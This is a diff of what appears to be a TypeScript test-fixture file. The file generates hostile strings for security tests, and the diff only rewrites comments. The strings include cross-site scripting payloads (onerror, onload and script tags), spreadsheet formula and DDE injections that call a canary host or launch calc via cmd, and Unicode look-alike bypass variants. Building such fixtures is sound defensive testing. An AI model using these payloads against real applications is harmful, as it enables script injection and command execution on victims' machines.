@@ -1,10 +1,10 @@
-// Texts that have run as scripts somewhere, made from families. Each calls `ran()`, opens a dialog, or asks for something
-// at the canary's address, which nothing of ours does; each fits where the fewest characters fit, in a name or a title.
+// Texts that have run as scripts somewhere, generated from families. Each calls `ran()`, opens a dialog, or requests
+// the canary's address, which our code never does; each fits into the shortest fields, names and titles.
 
-/** The longest of them, in characters: what a name and a title may have. */
+/** Length of the longest in characters: the maximum of a name and a title. */
 export const LONGEST_HOSTILE_TEXT = 80
 
-// Where only a text that got through leads; nobody answers there.
+// Only a text that got through leads there; nothing answers.
 const CANARY = 'canary.test'
 
 const RUN = 'ran()'
@@ -37,7 +37,7 @@ const scripts = [
   `<script>document.write('${CORES[0]}')</script>`,
 ]
 
-// What happens to each by itself, without anybody's doing, or as soon as it is touched.
+// Elements that run by themselves, or as soon as they are touched.
 const ELEMENTS = [
   `img src=x onerror=${RUN}`,
   `svg onload=${RUN}`,
@@ -208,14 +208,14 @@ const letters = [
   `"><${RUN}@${CANARY}>`,
   `a@${CANARY}, b@${CANARY}`,
   `x" <a@${CANARY}>`,
-  // A spreadsheet asks for these when a table is opened in it.
+  // Spreadsheets request these when a table is opened.
   `=HYPERLINK("//${CANARY}/x","x")`,
   `=IMPORTXML("//${CANARY}/y","/")`,
   `+cmd|' /C calc'!A0`,
   `@SUM(1)*cmd|'/C calc'!A0`,
 ]
 
-// Signs that one step of tidying or another makes into those that matter; and what cannot be seen, which is refused.
+// Characters that some normalization turns into dangerous ones; and invisible ones, which are refused.
 const signs = [
   `＜svg onload=${RUN}＞`,
   `﹤svg onload=${RUN}﹥`,
@@ -251,7 +251,7 @@ const HOSTILE_FAMILIES: Readonly<Record<string, readonly string[]>> = {
   signs,
 }
 
-/** All of them, each once, with the families mixed: so every few of them are of many kinds. */
+/** All of them, each once, with the families mixed, so that any few of them are diverse. */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...new Set(
     Object.values(HOSTILE_FAMILIES)
@@ -261,7 +261,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   ),
 ]
 
-/** Puts them together into texts of at most `most` characters, one below the other or, in one line, side by side. */
+/** Combines them into texts of at most `most` characters, one per line or, in a single line, next to each other. */
 export function packed(most: number, lines: boolean, texts: readonly string[] = HOSTILE_TEXTS): string[] {
   const packs: string[] = []
   for (const text of texts) {
